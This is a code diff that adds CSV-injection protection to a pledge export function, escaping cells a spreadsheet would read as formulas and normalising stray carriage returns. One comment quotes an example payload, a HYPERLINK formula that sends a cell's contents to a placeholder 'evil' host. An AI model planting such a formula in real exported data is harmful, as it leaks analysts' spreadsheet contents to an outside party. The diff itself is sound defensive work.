@@ -37,12 +37,32 @@ def _record(row: dict) -> dict:
     return {column: values.get(field) for field, column in COLUMNS}
 
 
+# A spreadsheet reads a cell starting with one of these as a formula (or, for tab and
+# carriage return, as the start of one), and feed text is written by strangers:
+# `=HYPERLINK("http://evil/?"&A1, "source")` in a title would run in the analyst's
+# spreadsheet. OWASP's CSV-injection guidance: prefix such cells with a single quote
+# so they are shown as text.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: object) -> object:
+    """`value` unchanged unless it is text a spreadsheet would evaluate; numbers stay numbers.
+    Leading spaces are looked through: some spreadsheets drop them before parsing."""
+    if not isinstance(value, str):
+        return value
+    if value.startswith(FORMULA_STARTS) or value.lstrip(" ").startswith(FORMULA_STARTS):
+        value = "'" + value
+    # The writer quotes cells holding "\n" (its line terminator) but not a bare "\r",
+    # which readers take for the end of the row.
+    return value.replace("\r\n", "\n").replace("\r", "\n")
+
+
 def pledges_to_csv(rows: Sequence[dict]) -> str:
     out = io.StringIO()
     writer = csv.DictWriter(out, fieldnames=[c for _, c in COLUMNS], lineterminator="\n")
     writer.writeheader()
     for row in rows:
-        writer.writerow(_record(row))
+        writer.writerow({column: spreadsheet_safe(value) for column, value in _record(row).items()})
     return out.getvalue()
 
 
